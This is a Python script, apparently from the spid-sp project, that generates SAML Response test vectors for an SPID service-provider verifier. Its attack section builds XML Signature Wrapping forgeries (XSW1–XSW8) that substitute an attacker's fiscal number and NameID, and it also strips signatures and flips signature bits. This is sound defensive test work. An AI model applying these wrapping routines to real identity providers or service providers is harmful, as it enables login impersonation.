#!/usr/bin/env python3
"""Generate the SAML Response test vectors of spid-sp (tests/data/).

    python3 tests/data/make-vectors.py [--with-signxml] [--only NAME...]

Writes, relative to this file's directory:

  keys/*.pem                 test key pairs, created ONCE with the openssl CLI (never regenerated)
  idp-metadata.xml           metadata of the trusted test IdP  https://idp.test.example  (idp.crt)
  idp2-metadata.xml          metadata of a second trusted IdP  https://idp2.test.example (idp2.crt)
  responses/NAME.xml         one raw SAML Response per vector (UTF-8 unless the vector is about encoding)
  responses/manifest.tsv     file <TAB> expect <TAB> note [<TAB> options]

Signing is done by the `xmlsec1` CLI; with --with-signxml a second, independent signer (Python
`signxml`, installed into target/vectors-venv) also produces the signxml-*.xml vectors. Without
that flag existing signxml-*.xml files are left as they are (they are deterministic).

After writing, two self-checks run:
  1. xmlsec1 --verify of every signature that a vector declares valid (all `accept` vectors and the
     field cases that are signed after being mangled), and of the signatures declared broken;
  2. an independent Python model ("oracle") of the verifier's check order (see README.md) that
     recomputes the expected code of every vector and must agree with the manifest.
Exit status 0 only if both pass.

Only the Python standard library and the openssl / xmlsec1 CLIs are used (plus signxml in its venv).
"""
import argparse
import base64
import datetime as dt
import hashlib
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import xml.parsers.expat
from dataclasses import dataclass, field, replace

HERE = os.path.dirname(os.path.abspath(__file__))
KEYS = os.path.join(HERE, "keys")
OUT = os.path.join(HERE, "responses")
REPO = os.path.normpath(os.path.join(HERE, "..", ".."))
VENV = os.path.join(REPO, "target", "vectors-venv")
SIGNXML_PIN = "signxml==5.2.0"

# --------------------------------------------------------------------------------------------
# Constants of the test scenario (mirrored in the manifest header and README.md)
# --------------------------------------------------------------------------------------------
SP = "https://sp.test.example/spid"
ACS = "https://sp.test.example/spid/acs"
IDP = "https://idp.test.example"
IDP2 = "https://idp2.test.example"
REQ_ID = "_7d1f5ac0c8e9b6a4f2e1d3c5b7a9e8f60123456789"
REQ_II = "2026-01-15T10:00:00.000Z"
II = "2026-01-15T10:00:02Z"          # Response and Assertion IssueInstant, Conditions NotBefore
NOA = "2026-01-15T10:05:02Z"         # Conditions and SubjectConfirmationData NotOnOrAfter
AUTHN_INSTANT = "2026-01-15T10:00:01Z"
NOW = "2026-01-15T10:00:10Z"         # test clock
SKEW = 60                            # seconds of clock skew allowed

NS_P = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_A = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XS = "http://www.w3.org/2001/XMLSchema"
NS_XSI = "http://www.w3.org/2001/XMLSchema-instance"
NS_EC = "http://www.w3.org/2001/10/xml-exc-c14n#"
NS_XML = "http://www.w3.org/XML/1998/namespace"

ENTITY = "urn:oasis:names:tc:SAML:2.0:nameid-format:entity"
TRANSIENT = "urn:oasis:names:tc:SAML:2.0:nameid-format:transient"
BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"
BASIC = "urn:oasis:names:tc:SAML:2.0:attrname-format:basic"
SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
RESPONDER = "urn:oasis:names:tc:SAML:2.0:status:Responder"
AUTHN_FAILED = "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"
L1, L2, L3 = ("https://www.spid.gov.it/SpidL%d" % i for i in (1, 2, 3))

EXC = "http://www.w3.org/2001/10/xml-exc-c14n#"
EXC_WC = "http://www.w3.org/2001/10/xml-exc-c14n#WithComments"
INC = "http://www.w3.org/TR/2001/REC-xml-c14n-20010315"
ENV = "http://www.w3.org/2000/09/xmldsig#enveloped-signature"
XSLT = "http://www.w3.org/TR/1999/REC-xslt-19991116"
XPATH = "http://www.w3.org/TR/1999/REC-xpath-19991116"
RSA_SHA1 = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
RSA_SHA256 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"
RSA_SHA384 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha384"
RSA_SHA512 = "http://www.w3.org/2001/04/xmldsig-more#rsa-sha512"
RSA_MD5 = "http://www.w3.org/2001/04/xmldsig-more#rsa-md5"
HMAC_SHA1 = "http://www.w3.org/2000/09/xmldsig#hmac-sha1"
SHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
SHA256 = "http://www.w3.org/2001/04/xmlenc#sha256"
SHA384 = "http://www.w3.org/2001/04/xmldsig-more#sha384"
SHA512 = "http://www.w3.org/2001/04/xmlenc#sha512"
MD5 = "http://www.w3.org/2001/04/xmldsig-more#md5"

ID_ATTRS = ["--id-attr:ID", NS_A + ":Assertion", "--id-attr:ID", NS_P + ":Response"]
XP_RSIG = "/*[local-name()='Response']/*[local-name()='Signature']"
XP_ASIG = "/*[local-name()='Response']/*[local-name()='Assertion']/*[local-name()='Signature']"

# Key pairs: name -> (bits, subject). All self-signed, 20-year validity.
KEYPAIRS = {
    "idp": (2048, "/C=IT/O=Test IdP/CN=idp.test.example"),
    "idp2": (2048, "/C=IT/O=Second Test IdP/CN=idp2.test.example"),
    "attacker": (2048, "/C=IT/O=Attacker/CN=attacker.test.example"),
    "sp": (2048, "/C=IT/O=Test SP/CN=sp.test.example"),
    "weak1024": (1024, "/C=IT/O=Weak Test IdP/CN=weak.test.example"),
}

# SPID attributes of the main vector: (Name, xsi:type, value)
MAIN_ATTRS = [
    ("spidCode", "xs:string", "TEST0123456789"),
    ("name", "xs:string", "Mario"),
    ("familyName", "xs:string", "Rossi"),
    ("placeOfBirth", "xs:string", "H501"),
    ("countyOfBirth", "xs:string", "RM"),
    ("dateOfBirth", "xs:date", "1980-01-01"),
    ("gender", "xs:string", "M"),
    ("fiscalNumber", "xs:string", "TINIT-RSSMRA80A01H501U"),
    ("email", "xs:string", "mario.rossi@example.it"),
    ("mobilePhone", "xs:string", "+393331234567"),
    ("address", "xs:string", "Via Listz 21 00144 Roma RM"),
    ("digitalAddress", "xs:string", "mario.rossi@pec.example.it"),
    ("expirationDate", "xs:date", "2030-12-31"),
    ("idCard", "xs:string", "cartaIdentita CA00000AA comuneRoma 2020-01-01 2030-12-31"),
]
EVIL_FISCAL = "TINIT-VLSTTK80A01H501X"   # what a wrapping attacker wants the SP to read
EIDAS_ATTRS = [("spidCode", "xs:string", "DE/IT/0123456789abcdef"), ("name", "xs:string", "Max"),
               ("familyName", "xs:string", "Mustermann"), ("dateOfBirth", "xs:date", "1980-01-01")]


def with_attrs(base, drop=(), set_=None, add=()):
    """Copy of an attribute list without `drop`, with values replaced by `set_`, plus `add`."""
    set_ = set_ or {}
    out = [(n, t, set_.get(n, v)) for (n, t, v) in base if n not in drop]
    return out + list(add)


# --------------------------------------------------------------------------------------------
# Small helpers
# --------------------------------------------------------------------------------------------
def run(cmd, input=None, check=True):
    r = subprocess.run(cmd, input=input, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if check and r.returncode != 0:
        raise RuntimeError("command failed: %s\n%s" % (" ".join(cmd), r.stderr.decode(errors="replace")))
    return r


def h40(tag, name):
    return hashlib.sha1(("%s|%s" % (tag, name)).encode()).hexdigest()


def key_path(name):
    return os.path.join(KEYS, name + ".key.pem")


def crt_path(name):
    return os.path.join(KEYS, name + ".crt.pem")


def cert_b64(name):
    lines = open(crt_path(name)).read().strip().splitlines()
    return "".join(l for l in lines if not l.startswith("-----"))


def parse_time(s):
    m = re.fullmatch(r"(\d{4})-(\d\d)-(\d\d)T(\d\d):(\d\d):(\d\d)(\.\d+)?(Z|[+-]\d\d:\d\d)", s or "")
    if not m:
        return None
    try:
        t = dt.datetime(*map(int, m.groups()[:6]), tzinfo=dt.timezone.utc)
    except ValueError:
        return None
    if m.group(7):
        t += dt.timedelta(microseconds=int(round(float(m.group(7)) * 1e6)))
    if m.group(8) != "Z":
        sign = 1 if m.group(8)[0] == "+" else -1
        t -= sign * dt.timedelta(hours=int(m.group(8)[1:3]), minutes=int(m.group(8)[4:6]))
    return t


def fmt_time(t):
    return t.strftime("%Y-%m-%dT%H:%M:%SZ")


def shift(ts, seconds):
    return fmt_time(parse_time(ts) + dt.timedelta(seconds=seconds))


# --------------------------------------------------------------------------------------------
# Keys and metadata
# --------------------------------------------------------------------------------------------
CA_CONF = """[ ca ]
default_ca = own
[ own ]
dir = %(dir)s
database = %(dir)s/index.txt
new_certs_dir = %(dir)s
serial = %(dir)s/serial
policy = any
email_in_dn = no
unique_subject = no
copy_extensions = none
[ any ]
countryName = optional
organizationName = optional
commonName = supplied
[ ext ]
basicConstraints = critical,CA:FALSE
keyUsage = critical,digitalSignature,nonRepudiation
subjectKeyIdentifier = hash
"""


def ensure_keys():
    """Create missing key pairs: self-signed certificates valid 2025-01-01 .. 2045-01-01 (20 years,
    so that they are already valid at the vectors' test clock, 2026-01-15)."""
    os.makedirs(KEYS, exist_ok=True)
    made = []
    for name, (bits, subject) in KEYPAIRS.items():
        if os.path.exists(key_path(name)) and os.path.exists(crt_path(name)):
            continue
        with tempfile.TemporaryDirectory() as td:
            open(os.path.join(td, "index.txt"), "w").close()
            open(os.path.join(td, "serial"), "w").write(hashlib.sha1(name.encode()).hexdigest()[:16] + "\n")
            conf = os.path.join(td, "ca.cnf")
            open(conf, "w").write(CA_CONF % {"dir": td})
            csr = os.path.join(td, "req.csr")
            run(["openssl", "req", "-new", "-newkey", "rsa:%d" % bits, "-nodes", "-subj", subject,
                 "-keyout", key_path(name), "-out", csr])
            run(["openssl", "ca", "-batch", "-selfsign", "-config", conf, "-keyfile", key_path(name),
                 "-in", csr, "-out", crt_path(name), "-startdate", "20250101000000Z", "-enddate",
                 "20450101000000Z", "-md", "sha256", "-notext", "-preserveDN", "-extensions", "ext"])
        made.append(name)
    return made


def idp_metadata(entity_id, keyname):
    base = entity_id
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" '
        'xmlns:ds="http://www.w3.org/2000/09/xmldsig#" entityID="%(e)s">\n'
        '  <md:IDPSSODescriptor WantAuthnRequestsSigned="true" '
        'protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">\n'
        '    <md:KeyDescriptor use="signing">\n'
        '      <ds:KeyInfo><ds:X509Data><ds:X509Certificate>%(c)s</ds:X509Certificate></ds:X509Data></ds:KeyInfo>\n'
        '    </md:KeyDescriptor>\n'
        '    <md:SingleLogoutService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="%(b)s/slo"/>\n'
        '    <md:SingleLogoutService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="%(b)s/slo"/>\n'
        '    <md:NameIDFormat>urn:oasis:names:tc:SAML:2.0:nameid-format:transient</md:NameIDFormat>\n'
        '    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="%(b)s/sso"/>\n'
        '    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect" Location="%(b)s/sso"/>\n'
        '  </md:IDPSSODescriptor>\n'
        '</md:EntityDescriptor>\n'
    ) % {"e": entity_id, "c": cert_b64(keyname), "b": base}


# --------------------------------------------------------------------------------------------
# Response template
# --------------------------------------------------------------------------------------------
@dataclass
class Sig:
    """A ds:Signature template (what xmlsec1 fills in)."""
    c14n: str = EXC
    method: str = RSA_SHA256
    digest: str = SHA256
    transforms: tuple = (ENV, EXC)
    prefixlist: str = None          # InclusiveNamespaces PrefixList on the exc-c14n transform
    uris: tuple = None              # Reference URIs; None = ("#" + ID of the signed element,)
    keyinfo: bool = True            # KeyInfo/X509Data filled with the signer's certificate
    key: str = "idp"                # key pair used to sign
    signer: str = "xmlsec1"         # or "signxml"


@dataclass
class Build:
    """Knobs of the rendered Response. Anything rarer is done with mutations."""
    mode: str = "std"               # std (samlp/saml/ds), saml2 (saml2p/saml2/dsig on root), default (xmlns=)
    rsig: Sig = field(default_factory=Sig)      # None = Response not signed
    asig: Sig = field(default_factory=Sig)      # None = Assertion not signed
    issuer: str = IDP
    attrs: list = None              # None = MAIN_ATTRS
    nameformat: bool = True
    level: str = L2
    nameid: str = None              # None = "_n" + hex
    session_index: bool = True
    xs_decl: str = "assertion"      # where xmlns:xs/xsi go: assertion | root | value (on each AttributeValue)
    resp_ii: str = II
    asrt_ii: str = II
    not_before: str = II
    not_on_or_after: str = NOA
    authn_instant: str = AUTHN_INSTANT
    status: str = "success"         # success | refusal
    error_code: str = "nr22"        # refusal only (None = no StatusMessage)
    assertion: bool = True


def ids(name):
    return {"rid": "_r" + h40("r", name), "aid": "_a" + h40("a", name),
            "nid": "_n" + h40("n", name), "sid": "_s" + h40("s", name)[:32]}


def sig_xml(s, ref_id, D, decl):
    """Signature template. D = ds prefix ('ds:' or ''), decl = namespace declaration text."""
    if s.signer == "signxml":
        return '<%sSignature%s/>' % (D, decl)
    uris = s.uris if s.uris is not None else ("#" + ref_id,)
    refs = ""
    for uri in uris:
        tr = ""
        for t in s.transforms:
            inner = ""
            if t == EXC and s.prefixlist is not None:
                inner = '<ec:InclusiveNamespaces xmlns:ec="%s" PrefixList="%s"/>' % (NS_EC, s.prefixlist)
            tr += ('<%sTransform Algorithm="%s">%s</%sTransform>' % (D, t, inner, D)) if inner else \
                  '<%sTransform Algorithm="%s"/>' % (D, t)
        refs += ('<%(D)sReference URI="%(u)s">%(tr)s<%(D)sDigestMethod Algorithm="%(dm)s"/>'
                 '<%(D)sDigestValue></%(D)sDigestValue></%(D)sReference>') % {
            "D": D, "u": uri, "tr": ("<%sTransforms>%s</%sTransforms>" % (D, tr, D)) if s.transforms else "",
            "dm": s.digest}
    keyinfo = "<%sKeyInfo><%sX509Data/></%sKeyInfo>" % (D, D, D) if s.keyinfo else ""
    return ('<%(D)sSignature%(decl)s><%(D)sSignedInfo><%(D)sCanonicalizationMethod Algorithm="%(c)s"/>'
            '<%(D)sSignatureMethod Algorithm="%(m)s"/>%(refs)s</%(D)sSignedInfo>'
            '<%(D)sSignatureValue></%(D)sSignatureValue>%(ki)s</%(D)sSignature>') % {
        "D": D, "decl": decl, "c": s.c14n, "m": s.method, "refs": refs, "ki": keyinfo}


def render(name, b):
    """Render the unsigned Response of vector `name` (IDs derived from the name)."""
    i = ids(name)
    if b.mode == "std":
        P, A, D = "samlp:", "saml:", "ds:"
        root_decl = ' xmlns:samlp="%s" xmlns:saml="%s"' % (NS_P, NS_A)
        a_decl, s_decl = "", ' xmlns:ds="%s"' % NS_DS
    elif b.mode == "saml2":
        P, A, D = "saml2p:", "saml2:", "dsig:"
        root_decl = ' xmlns:saml2p="%s" xmlns:saml2="%s" xmlns:dsig="%s"' % (NS_P, NS_A, NS_DS)
        a_decl, s_decl = "", ""
    elif b.mode == "default":
        P, A, D = "", "", ""
        root_decl = ' xmlns="%s"' % NS_P
        a_decl, s_decl = ' xmlns="%s"' % NS_A, ' xmlns="%s"' % NS_DS
    else:
        raise ValueError(b.mode)
    xsd = ' xmlns:xs="%s" xmlns:xsi="%s"' % (NS_XS, NS_XSI)
    if b.xs_decl == "root":
        root_decl += xsd
    nl = "\n"
    out = ['<?xml version="1.0" encoding="UTF-8"?>']
    out.append('<%sResponse%s ID="%s" Version="2.0" IssueInstant="%s" Destination="%s" InResponseTo="%s">'
               % (P, root_decl, i["rid"], b.resp_ii, ACS, REQ_ID))
    out.append('  <%sIssuer%s Format="%s">%s</%sIssuer>' % (A, a_decl, ENTITY, b.issuer, A))
    if b.rsig is not None:
        out.append("  " + sig_xml(b.rsig, i["rid"], D, s_decl))
    if b.status == "success":
        out.append('  <%sStatus>%s    <%sStatusCode Value="%s"/>%s  </%sStatus>' % (P, nl, P, SUCCESS, nl, P))
    else:
        msg = ("%s    <%sStatusMessage>ErrorCode %s</%sStatusMessage>" % (nl, P, b.error_code, P)) if b.error_code else ""
        out.append('  <%sStatus>\n    <%sStatusCode Value="%s">\n      <%sStatusCode Value="%s"/>\n'
                   '    </%sStatusCode>%s\n  </%sStatus>' % (P, P, RESPONDER, P, AUTHN_FAILED, P, msg, P))
    if b.assertion:
        adecl = a_decl + (xsd if b.xs_decl == "assertion" else "")
        out.append('  <%sAssertion%s ID="%s" Version="2.0" IssueInstant="%s">' % (A, adecl, i["aid"], b.asrt_ii))
        out.append('    <%sIssuer Format="%s">%s</%sIssuer>' % (A, ENTITY, b.issuer, A))
        if b.asig is not None:
            out.append("    " + sig_xml(b.asig, i["aid"], D, s_decl))
        nameid = b.nameid if b.nameid is not None else i["nid"]
        out.append('    <%sSubject>' % A)
        out.append('      <%sNameID Format="%s" NameQualifier="%s">%s</%sNameID>' % (A, TRANSIENT, b.issuer, nameid, A))
        out.append('      <%sSubjectConfirmation Method="%s">' % (A, BEARER))
        out.append('        <%sSubjectConfirmationData InResponseTo="%s" NotOnOrAfter="%s" Recipient="%s"/>'
                   % (A, REQ_ID, b.not_on_or_after, ACS))
        out.append('      </%sSubjectConfirmation>' % A)
        out.append('    </%sSubject>' % A)
        out.append('    <%sConditions NotBefore="%s" NotOnOrAfter="%s">' % (A, b.not_before, b.not_on_or_after))
        out.append('      <%sAudienceRestriction>' % A)
        out.append('        <%sAudience>%s</%sAudience>' % (A, SP, A))
        out.append('      </%sAudienceRestriction>' % A)
        out.append('    </%sConditions>' % A)
        si = ' SessionIndex="%s"' % i["sid"] if b.session_index else ""
        out.append('    <%sAuthnStatement AuthnInstant="%s"%s>' % (A, b.authn_instant, si))
        out.append('      <%sAuthnContext>' % A)
        out.append('        <%sAuthnContextClassRef>%s</%sAuthnContextClassRef>' % (A, b.level, A))
        out.append('      </%sAuthnContext>' % A)
        out.append('    </%sAuthnStatement>' % A)
        out.append('    <%sAttributeStatement>' % A)
        for (n, t, v) in (b.attrs if b.attrs is not None else MAIN_ATTRS):
            nf = ' NameFormat="%s"' % BASIC if b.nameformat else ""
            vd = xsd if b.xs_decl == "value" else ""
            out.append('      <%sAttribute Name="%s"%s>' % (A, n, nf))
            out.append('        <%sAttributeValue%s xsi:type="%s">%s</%sAttributeValue>' % (A, vd, t, v, A))
            out.append('      </%sAttribute>' % A)
        out.append('    </%sAttributeStatement>' % A)
        out.append('  </%sAssertion>' % A)
    out.append('</%sResponse>' % P)
    return "\n".join(out) + "\n"


# --------------------------------------------------------------------------------------------
# Element-level string surgery (the documents are ours: no comments/CDATA/'>' in attributes)
# --------------------------------------------------------------------------------------------
def _open_re(q):
    return re.compile("<" + re.escape(q) + r"(?=[\s/>])")


def _tag_end(s, i):
    q = None
    while True:
        c = s[i]
        if q:
            if c == q:
                q = None
        elif c in "\"'":
            q = c
        elif c == ">":
            return i + 1
        i += 1


def span(s, q, n=0, lo=0, hi=None):
    """(start, end of start tag, end) of the n-th element named q (qualified name) in s[lo:hi]."""
    hi = len(s) if hi is None else hi
    rx = _open_re(q)
    ms = [m for m in rx.finditer(s, lo, hi)]
    if n >= len(ms):
        raise KeyError("no element %s #%d" % (q, n))
    st = ms[n].start()
    te = _tag_end(s, st)
    if s[te - 2] == "/":
        return st, te, te
    depth, pos, close = 1, te, "</" + q + ">"
    while depth:
        nc = s.find(close, pos)
        mo = rx.search(s, pos)
        if mo and mo.start() < nc:
            e = _tag_end(s, mo.start())
            if s[e - 2] != "/":
                depth += 1
            pos = e
        else:
            depth -= 1
            pos = nc + len(close)
    return st, te, pos


def _scoped(scope):
    """Return (lo, hi) limits: scope is None or (qname, n)."""
    def lim(s):
        if scope is None:
            return 0, len(s)
        q, n = scope if isinstance(scope, tuple) else (scope, 0)
        a, _, b = span(s, q, n)
        return a, b
    return lim


def set_attr(q, attr, value, n=0, scope=None):
    """Mutation: set (value str) or remove (value None) an attribute of an element's start tag."""
    def f(s):
        lo, hi = _scoped(scope)(s)
        a, te, _ = span(s, q, n, lo, hi)
        tag = s[a:te]
        rx = re.compile(r'\s' + re.escape(attr) + r'="[^"]*"')
        if rx.search(tag):
            new = rx.sub("" if value is None else ' %s="%s"' % (attr, value), tag, count=1)
        elif value is not None:
            end = len(tag) - (2 if tag.endswith("/>") else 1)
            new = tag[:end] + ' %s="%s"' % (attr, value) + tag[end:]
        else:
            raise KeyError("attribute %s not on %s" % (attr, q))
        return s[:a] + new + s[te:]
    return f


def replace_elem(q, new, n=0, scope=None):
    """Mutation: replace a whole element (new=None or '' removes it, with its line)."""
    def f(s):
        lo, hi = _scoped(scope)(s)
        a, _, b = span(s, q, n, lo, hi)
        if not new:
            ls = s.rfind("\n", 0, a)
            if s[ls + 1:a].strip() == "" and s[b:b + 1] == "\n":
                a = ls + 1
                b += 1
            return s[:a] + s[b:]
        return s[:a] + new + s[b:]
    return f


def set_content(q, new, n=0, scope=None):
    """Mutation: replace an element's content (keeps its start tag and attributes)."""
    def f(s):
        lo, hi = _scoped(scope)(s)
        a, te, b = span(s, q, n, lo, hi)
        if te == b:                       # self-closing: open it
            return s[:a] + s[a:te - 2].rstrip() + ">" + new + "</" + q + ">" + s[b:]
        return s[:te] + new + s[b - len("</" + q + ">"):]
    return f


def insert_after(q, text, n=0, scope=None):
    def f(s):
        lo, hi = _scoped(scope)(s)
        _, _, b = span(s, q, n, lo, hi)
        return s[:b] + text + s[b:]
    return f


def insert_before(q, text, n=0, scope=None):
    def f(s):
        lo, hi = _scoped(scope)(s)
        a, _, _ = span(s, q, n, lo, hi)
        return s[:a] + text + s[a:]
    return f


def append_child(q, text, n=0, scope=None):
    """Mutation: insert text right before the closing tag of an element."""
    def f(s):
        lo, hi = _scoped(scope)(s)
        _, _, b = span(s, q, n, lo, hi)
        c = b - len("</" + q + ">")
        return s[:c] + text + s[c:]
    return f


def sub(old, new, count=1):
    """Mutation: plain text replacement, `count` occurrences expected (0 = any >= 1)."""
    def f(s):
        k = s.count(old)
        if (count and k != count) or k == 0:
            raise ValueError("expected %s x %r, found %d" % (count or ">=1", old, k))
        return s.replace(old, new)
    return f


def attr_value(attr_name):
    """Scope helper: the saml:Attribute element with this Name (index among Attributes)."""
    names = [n for (n, _, _) in MAIN_ATTRS]
    return ("saml:Attribute", names.index(attr_name))


# --------------------------------------------------------------------------------------------
# Signers
# --------------------------------------------------------------------------------------------
def xmlsec_sign(xml_text, xpath, key):
    with tempfile.TemporaryDirectory() as td:
        src, dst = os.path.join(td, "in.xml"), os.path.join(td, "out.xml")
        open(src, "w", encoding="utf-8").write(xml_text)
        run(["xmlsec1", "--sign", "--privkey-pem", key_path(key) + "," + crt_path(key)] + ID_ATTRS +
            ["--node-xpath", xpath, "--output", dst, src])
        return open(dst, encoding="utf-8").read()


SIGNXML_HELPER = r"""
import json, sys
from lxml import etree
from signxml import XMLSigner, SignatureMethod, DigestAlgorithm, CanonicalizationMethod, SignatureReference
a = json.loads(sys.argv[1])
root = etree.parse(a["in"], etree.XMLParser(remove_blank_text=False, resolve_entities=False)).getroot()
sig = root.xpath(a["xpath"])[0]
sig.set("Id", "placeholder")
ref = SignatureReference(URI="#" + a["ref"], inclusive_ns_prefixes=a["prefixlist"])
signer = XMLSigner(signature_algorithm=SignatureMethod.RSA_SHA256, digest_algorithm=DigestAlgorithm.SHA256,
                   c14n_algorithm=CanonicalizationMethod.EXCLUSIVE_XML_CANONICALIZATION_1_0)
signed = signer.sign(root, key=open(a["key"], "rb").read(), cert=open(a["cert"], "rb").read(), reference_uri=[ref])
open(a["out"], "wb").write(etree.tostring(signed, xml_declaration=True, encoding="UTF-8"))
"""


def venv_python():
    return os.path.join(VENV, "bin", "python")


def ensure_signxml():
    py = venv_python()
    if not os.path.exists(py):
        run([sys.executable, "-m", "venv", VENV])
    r = run([py, "-c", "import signxml, importlib.metadata as m; print(m.version('signxml'))"], check=False)
    if r.returncode != 0:
        run([py, "-m", "pip", "install", "-q", SIGNXML_PIN])
        r = run([py, "-c", "import signxml, importlib.metadata as m; print(m.version('signxml'))"])
    return r.stdout.decode().strip()


def signxml_sign(xml_text, xpath, key, ref_id, prefixlist):
    with tempfile.TemporaryDirectory() as td:
        src, dst = os.path.join(td, "in.xml"), os.path.join(td, "out.xml")
        open(src, "w", encoding="utf-8").write(xml_text)
        args = {"in": src, "out": dst, "xpath": xpath, "key": key_path(key), "cert": crt_path(key),
                "ref": ref_id, "prefixlist": prefixlist.split() if prefixlist else None}
        run([venv_python(), "-c", SIGNXML_HELPER, json.dumps(args)])
        return open(dst, encoding="utf-8").read()


def xmlsec_verify(path, xpath, keyname):
    """(signature ok, all references ok) according to xmlsec1, trusting only keyname's key."""
    r = run(["xmlsec1", "--verify", "--enabled-key-data", "rsa", "--pubkey-cert-pem", crt_path(keyname)] +
            ID_ATTRS + ["--node-xpath", xpath, path], check=False)
    out = (r.stdout + r.stderr).decode(errors="replace")
    m = re.search(r"SignedInfo References \(ok/all\): (\d+)/(\d+)", out)
    refs_ok = bool(m) and m.group(1) == m.group(2) and m.group(2) != "0"
    return r.returncode == 0, refs_ok


# --------------------------------------------------------------------------------------------
# Post-signing mutations (attacks). They work on the signed text, byte-exact elsewhere.
# --------------------------------------------------------------------------------------------
def evil_values(s):
    """What a wrapping attacker changes in the copy it wants the SP to read."""
    s = re.sub(r"TINIT-RSSMRA80A01H501U", EVIL_FISCAL, s)
    return re.sub(r"(<saml:NameID [^>]*>)[^<]*(</saml:NameID>)", r"\1_evil_nameid\2", s)


def strip_sig(s, n=0):
    return replace_elem("ds:Signature", None, n)(s)


def xsw(kind, unique_ids=False):
    """SAMLRaider XSW1..XSW8 (helpers/XSWHelpers.java), on a Response + Assertion signed document.
    unique_ids: also give the attacker's copies fresh IDs, so that duplicate-ID detection is not
    what stops the attack and the structural checks behind it are exercised."""
    def f(s):
        head, body = s[:s.index("<samlp:Response")], s[s.index("<samlp:Response"):]
        evil_rid, evil_aid = "_r" + h40("evil-r", kind), "_a" + h40("evil-a", kind)
        if kind in (1, 2):
            clone = strip_sig(body, 0)                           # original Response, minus its Signature
            evil = evil_values(body)
            evil = set_attr("samlp:Response", "ID", evil_rid)(evil)
            if unique_ids:
                evil = set_attr("saml:Assertion", "ID", evil_aid)(evil)
                if len(re.findall(r"<ds:Signature[\s>/]", evil)) > 1:
                    evil = strip_sig(evil, 1)                    # the evil Assertion is unsigned
            clone_inline = clone.rstrip("\n")
            if kind == 1:                                        # clone inside the Response Signature
                evil = append_child("ds:Signature", clone_inline, 0)(evil)
            else:                                                # clone as a sibling before the Signature
                evil = insert_before("ds:Signature", clone_inline + "\n  ", 0)(evil)
            return head + evil
        # Assertion-level attacks: the Response signature is dropped (as spid-sp-test and SAMLRaider users do)
        body = strip_sig(body, 0)
        a0, _, a1 = span(body, "saml:Assertion")
        orig = body[a0:a1]
        copy_nosig = strip_sig(orig, 0)
        if kind == 3:      # evil unsigned copy inserted before the original
            evil = set_attr("saml:Assertion", "ID", evil_aid)(evil_values(copy_nosig))
            body = body[:a0] + evil + "\n  " + body[a0:]
        elif kind == 4:    # evil copy replaces the original, original nested inside it
            evil = set_attr("saml:Assertion", "ID", evil_aid)(evil_values(copy_nosig))
            evil = append_child("saml:Assertion", "\n  " + orig + "\n  ")(evil)
            body = body[:a0] + evil + body[a1:]
        elif kind == 5:    # original made evil in place (keeps its Signature), unsigned original copy appended
            evil = set_attr("saml:Assertion", "ID", evil_aid)(evil_values(orig))
            body = body[:a0] + evil + body[a1:]
            body = append_child("samlp:Response", "  " + copy_nosig + "\n")(body)
        elif kind == 6:    # as 5, but the original copy goes inside the evil Assertion's Signature
            evil = set_attr("saml:Assertion", "ID", evil_aid)(evil_values(orig))
            evil = append_child("ds:Signature", copy_nosig)(evil)
            body = body[:a0] + evil + body[a1:]
        elif kind == 7:    # unsigned evil copy inside an Extensions element before the Assertion
            evil = evil_values(copy_nosig)
            if unique_ids:
                evil = set_attr("saml:Assertion", "ID", evil_aid)(evil)
                ext = "<samlp:Extensions>%s</samlp:Extensions>\n  " % evil
            else:
                ext = "<Extensions>%s</Extensions>\n  " % evil     # SAMLRaider: createElement("Extensions")
            body = body[:a0] + ext + body[a0:]
        elif kind == 8:    # evil in place; original copy inside an Object inside its Signature
            evil = evil_values(orig)
            if unique_ids:
                evil = set_attr("saml:Assertion", "ID", evil_aid)(evil)
                obj = "<ds:Object>%s</ds:Object>" % copy_nosig
            else:
                obj = "<Object>%s</Object>" % copy_nosig            # SAMLRaider: createElement("Object")
            evil = append_child("ds:Signature", obj)(evil)
            body = body[:a0] + evil + body[a1:]
        return head + body
    return f


def strip_namespaces(s):
    """spid-sp-test's del_ns(): SAML/DSig elements lose their namespace."""
    s = re.sub(r'\sxmlns:(samlp|saml|ds)="[^"]*"', "", s)
    return re.sub(r"<(/?)(samlp|saml|ds):", r"<\1", s)


def blank_x509(s):
    return re.sub(r"(<([\w]+:)?X509Certificate>)[^<]*(</([\w]+:)?X509Certificate>)",
                  lambda m: "<%sX509Certificate/>" % (m.group(2) or ""), s)


def keyinfo_cert(name):
    def f(s):
        return re.sub(r"(<ds:X509Certificate>)[^<]*(</ds:X509Certificate>)",
                      lambda m: m.group(1) + cert_b64(name) + m.group(2), s)
    return f


def flip_b64(q, n=0):
    """Flip one bit in the middle of a base64 element value (SignatureValue/DigestValue)."""
    def f(s):
        _, te, b = span(s, q, n)
        raw = bytearray(base64.b64decode("".join(s[te:b - len("</" + q + ">")].split())))
        raw[len(raw) // 2] ^= 0x01
        return s[:te] + base64.b64encode(bytes(raw)).decode() + s[b - len("</" + q + ">"):]
    return f


def sig_alg_rewrite(method=None, digest=None, n=0):
    def f(s):
        a, _, b = span(s, "ds:Signature", n)
        part = s[a:b]
        if method:
            part = re.sub(r'(<ds:SignatureMethod Algorithm=")[^"]*(")', r"\g<1>%s\2" % method, part)
        if digest:
            part = re.sub(r'(<ds:DigestMethod Algorithm=")[^"]*(")', r"\g<1>%s\2" % digest, part)
